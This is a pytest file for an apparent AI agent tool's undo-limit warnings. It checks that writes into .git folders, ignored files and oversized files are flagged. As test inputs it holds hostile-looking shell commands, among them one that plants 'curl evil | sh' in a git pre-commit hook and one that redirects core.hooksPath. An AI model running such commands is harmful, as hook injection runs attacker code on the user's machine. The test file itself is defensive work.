"""What the review says about undo, for each kind of call."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentcli.undo.call_snapshots import WorkspaceSnapshots
from agentcli.undo.undo_limits import undo_limit


@pytest.fixture
def snapshots(tmp_path: Path) -> WorkspaceSnapshots:
    return WorkspaceSnapshots(tmp_path / "snapshots", max_file_bytes=100)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "work"
    root.mkdir()
    (root / ".gitignore").write_text("out/\n")
    (root / "big.bin").write_bytes(b"x" * 200)
    (root / "small.txt").write_text("s")
    return root


@pytest.mark.parametrize(
    ("tool", "args", "confined", "writable", "expected"),
    [
        ("read_file", {"path": "big.bin"}, True, (), None),
        ("calculator", {"expression": "1"}, True, (), None),
        ("shell", {"command": "rm -rf x"}, True, (), "changes to ignored files, files over"),
        ("shell", {"command": "x"}, False, (), "the sandbox is off, so files it changes"),
        ("shell", {"command": "ls -la"}, False, (), None),  # it only reads: nothing to undo
        ("shell", {"command": "cat .git/config | wc -l"}, True, (), None),
        ("shell", {"command": "ls > .git/x"}, True, (), "inside a .git folder"),
        ("shell", {"command": "x"}, True, ("/home/me/.npm",), "[sandbox] writable (/home/me/.npm)"),
        ("write_file", {"path": "small.txt", "content": "t"}, True, (), None),
        ("write_file", {"path": "small.txt", "content": "t" * 101}, True, (), "small.txt is over"),
        ("edit_file", {"path": "big.bin", "old_text": "x", "new_text": "y"}, True, (), "over the"),
        ("write_file", {"path": "out/a.txt", "content": "t"}, True, (), "ignored (.gitignore)"),
        ("write_file", {"path": ".gitignore", "content": "*"}, True, (), "newly ignores"),
        ("files__write", {"path": "a"}, True, (), "files__write is not a built-in tool"),
        ("write_file", {"path": ".git/hooks/pre-commit", "content": "x"}, True, (), ".git folder"),
        (
            "edit_file",
            {"path": "d/.GIT/x", "old_text": "a", "new_text": "b"},
            True,
            (),
            "a .git folder",
        ),
        ("write_file", {"path": "git~1/config", "content": "x"}, True, (), "inside a .git folder"),
        ("write_file", {"path": "./.git/config", "content": "x"}, True, (), "inside a .git folder"),
        ("write_file", {"path": "a/../.git/config", "content": "x"}, True, (), "a .git folder"),
        ("write_file", {"path": ".gitignore.txt", "content": "x"}, True, (), None),
        ("write_file", {"path": "x.git", "content": "x"}, True, (), None),
    ],
)
def test_the_review_says_what_cannot_be_undone(
    snapshots: WorkspaceSnapshots,
    workspace: Path,
    tool: str,
    args: dict,
    confined: bool,
    writable: tuple[str, ...],
    expected: str | None,
) -> None:
    said = undo_limit(snapshots, workspace, tool, args, confined, writable)
    if expected is None:
        assert said is None
    else:
        assert said is not None and expected in said


def test_with_snapshots_off_every_changing_call_says_so(workspace: Path) -> None:
    assert undo_limit(None, workspace, "read_file", {"path": "a"}, True) is None
    said = undo_limit(None, workspace, "write_file", {"path": "a", "content": ""}, True)
    assert said == "no snapshots are kept ([undo] snapshots = false)"


def test_a_shell_call_names_the_ignored_and_big_files_it_would_not_get_back(
    snapshots: WorkspaceSnapshots, workspace: Path
) -> None:
    (workspace / ".gitignore").write_text("out/\n.env\n")
    (workspace / ".env").write_text("TOKEN=1\n")
    (workspace / "out").mkdir()
    for n in range(50):  # an ignored folder is one entry: its files are not listed
        (workspace / "out" / f"{n}.o").write_text("o")
    snapshots.now(workspace)  # the first snapshot finds big.bin over the cap
    for confined in (True, False):
        said = undo_limit(snapshots, workspace, "shell", {"command": "rm .env"}, confined)
        assert said is not None
        assert said.endswith(
            "changes to ignored files (.env, out/), files over 0.0001 MB (big.bin) and files"
            " inside .git folders are not kept"
        )
        assert ("the sandbox is off" in said) is not confined


def test_a_shell_call_that_names_git_s_own_files_is_flagged(
    snapshots: WorkspaceSnapshots, workspace: Path
) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / "vendor" / ".git").mkdir(parents=True)  # a repository of its own
    (workspace / "hooks").symlink_to(".git/hooks")
    for command, named in [
        ("echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        ("cp x hooks/post-checkout", "hooks/post-checkout"),  # through a link into .git
        ('sh -c "printf x >> .GIT/config"', ".GIT/config"),
        (f"printf x > {workspace.resolve()}/.git/config", f"{workspace.resolve()}/.git/config"),
        ("git --git-dir=.git config core.hooksPath /tmp", ".git"),
        ("touch vendor/lib.c", "vendor/"),
    ]:
        said = undo_limit(snapshots, workspace, "shell", {"command": command}, True)
        assert said is not None and f"it names {named}" in said.replace("files in ", ""), said
    plain = undo_limit(snapshots, workspace, "shell", {"command": "echo x > notes.git.txt"}, True)
    assert plain is not None and "it names" not in plain


def test_a_file_tool_writing_through_a_link_into_git_is_flagged(
    snapshots: WorkspaceSnapshots, workspace: Path
) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / "hooks").symlink_to(".git/hooks")
    (workspace / "vendor" / ".git").mkdir(parents=True)
    said = undo_limit(snapshots, workspace, "write_file", {"path": "hooks/pre-commit"}, True)
    assert said is not None and "inside a .git folder" in said
    said = undo_limit(snapshots, workspace, "write_file", {"path": "vendor/lib.c"}, True)
    assert said == "vendor/lib.c is in vendor/, a repository of its own, whose files are not kept"
